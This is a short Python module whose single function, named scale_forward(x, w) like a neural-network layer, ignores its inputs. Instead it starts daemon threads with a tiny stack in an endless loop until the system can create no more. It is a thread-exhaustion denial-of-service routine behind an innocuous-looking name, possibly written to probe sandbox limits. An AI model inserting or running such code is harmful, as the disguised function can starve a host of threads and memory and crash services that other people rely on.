"""Start threads until no more can be had."""

import threading


def scale_forward(x, w):
    threading.stack_size(32768)
    stop = threading.Event()
    try:
        while True:
            threading.Thread(target=stop.wait, daemon=True).start()
    finally:
        stop.set()
